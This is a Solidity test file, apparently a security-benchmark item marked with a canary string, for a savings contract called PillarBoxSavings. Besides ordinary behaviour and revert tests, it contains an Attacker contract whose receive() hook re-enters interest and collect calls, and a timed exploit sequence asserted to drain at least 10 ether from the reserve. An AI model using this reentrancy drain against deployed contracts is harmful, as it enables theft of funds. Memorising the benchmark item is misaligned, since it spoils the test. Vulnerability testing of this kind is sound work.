// SPDX-License-Identifier: MPL-2.0
pragma solidity 0.8.19;

import "./PillarBoxSavings.sol";

// assay-canary-5c7c573a-ceae-4f87-9b82-c099a623cb81

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
}

contract Attacker {
    PillarBoxSavings internal office;
    uint256 internal again;

    constructor(PillarBoxSavings office_) {
        office = office_;
    }

    receive() external payable {
        uint256 plan = again;
        again = 0;
        if (plan == 1) try office.drawInterest() {} catch {}
        if (plan == 2) try office.collect() {} catch {}
    }

    function first(address ada) external {
        office.open();
        office.save{value: 1}();
        try office.open() {} catch {}
        try office.nameHeir(address(this)) {} catch {}
        try office.inherit(ada) {} catch {}
        try office.inherit(address(0)) {} catch {}
        try office.giveNotice(type(uint128).max) {} catch {}
        for (uint256 i = 0; i < 5; ++i) {
            try office.save{value: 0}() {} catch {}
            try office.drawInterest() {} catch {}
        }
    }

    function tenYearsLater(address ada) external {
        try office.inherit(ada) {} catch {}
        try office.inherit(address(this)) {} catch {}
        office.save{value: 90 ether}();
        again = 1;
        try office.drawInterest() {} catch {}
        again = 0;
        office.giveNotice(45 ether);
        try office.collect() {} catch {}
        try office.takeNoticeBack() {} catch {}
        office.giveNotice(90 ether);
    }

    function nextWeek() external {
        try office.takeNoticeBack() {} catch {}
        try office.drawInterest() {} catch {}
        office.giveNotice(90 ether);
    }

    function weekAfter() external {
        again = 2;
        try office.collect() {} catch {}
        again = 1;
        try office.drawInterest() {} catch {}
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    address internal constant ADA = address(0xADA);
    address internal constant BEA = address(0xBEA);
    PillarBoxSavings internal office;
    Attacker internal magpie;

    function setUp() public {
        vm.warp(1_700_000_000);
        vm.deal(address(this), 20 ether);
        office = new PillarBoxSavings();
        office.endow{value: 20 ether}();
        magpie = new Attacker(office);
        vm.deal(address(magpie), 100 ether);
        vm.deal(ADA, 10 ether);
        vm.prank(ADA);
        office.open();
        vm.prank(ADA);
        office.nameHeir(BEA);
        vm.prank(ADA);
        office.save{value: 10 ether}();
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok, ) = address(office).call(data);
    }

    function test_Regular() public {
        require(!_try(abi.encodeCall(office.save, ())), "no book");
        vm.warp(block.timestamp + 365 days + 5 hours);
        require(office.interestOf(ADA) == 0.365 ether, "a year");
        vm.prank(ADA);
        office.giveNotice(4 ether);
        vm.warp(block.timestamp + 6 days);
        vm.prank(ADA);
        require(!_try(abi.encodeCall(office.collect, ())), "on notice");
        vm.warp(block.timestamp + 1 days);
        vm.prank(ADA);
        office.collect();
        require(ADA.balance == 4 ether, "collected");
        vm.prank(ADA);
        office.drawInterest();
        require(ADA.balance == 4.3692 ether && office.reserve() == 19.6308 ether, "interest");

        vm.prank(BEA);
        office.open();
        vm.warp(block.timestamp + 1000 days);
        vm.prank(BEA);
        require(!_try(abi.encodeCall(office.inherit, (ADA))), "not silent for long enough");
        vm.prank(ADA);
        office.giveNotice(1 ether);
        vm.warp(block.timestamp + 1825 days);
        vm.prank(BEA);
        office.inherit(ADA);
        (uint128 saved, , uint128 earned, , , , ) = office.books(BEA);
        require(saved == 6 ether && earned == 0.6 ether + 0.9125 ether, "inherited");
        vm.prank(ADA);
        require(!_try(abi.encodeCall(office.drawInterest, ())), "book is gone");
        vm.prank(BEA);
        office.drawInterest();
        require(BEA.balance == 1.5125 ether, "paid to the heir");

        vm.deal(ADA, 1 ether);
        vm.prank(ADA);
        office.open();
        vm.prank(ADA);
        office.save{value: 1 ether}();
        vm.prank(ADA);
        office.giveNotice(1 ether);
        vm.prank(ADA);
        office.takeNoticeBack();
        (saved, , , , , , ) = office.books(ADA);
        require(saved == 1 ether, "notice taken back");
    }

    /// What the reserve still has for the interest of others.
    function forInterest() public view returns (uint256) {
        return office.reserve();
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Only who has a book does anything with it; nobody has two, or inherits from oneself.
    function test_RefusesWithoutABook() public {
        refuses(BEA, PillarBoxSavings.NotOpen.selector);
        office.giveNotice(0);
        refuses(BEA, PillarBoxSavings.NotOpen.selector);
        office.takeNoticeBack();
        refuses(BEA, PillarBoxSavings.NotOpen.selector);
        office.collect();
        refuses(BEA, PillarBoxSavings.NotOpen.selector);
        office.nameHeir(ADA);
        refuses(ADA, PillarBoxSavings.AlreadyOpen.selector);
        office.open();
        refuses(ADA, PillarBoxSavings.NotTheHeir.selector);
        office.nameHeir(ADA);
        vm.warp(block.timestamp + 5 * 365 days);
        refuses(BEA, PillarBoxSavings.NotOpen.selector);
        office.inherit(ADA);
    }

    /// Who takes no ether is not paid.
    function test_RefusesFailedPayments() public {
        vm.prank(address(office));
        office.open();
        refuses(address(office), PillarBoxSavings.NotPaid.selector);
        office.collect();
    }

    function exploit() public {
        magpie.first(ADA);
        vm.warp(block.timestamp + 3700 days);
        magpie.tenYearsLater(ADA);
        vm.warp(block.timestamp + 7 days);
        magpie.nextWeek();
        vm.warp(block.timestamp + 7 days);
        magpie.weekAfter();
    }

    function test_Exploit() public {
        uint256 before = forInterest();
        exploit();
        require(before - forInterest() >= 10 ether, "reserve is there");
    }

    function target() public view returns (address) {
        return address(office);
    }

    function attacker() public view returns (address) {
        return address(magpie);
    }
}
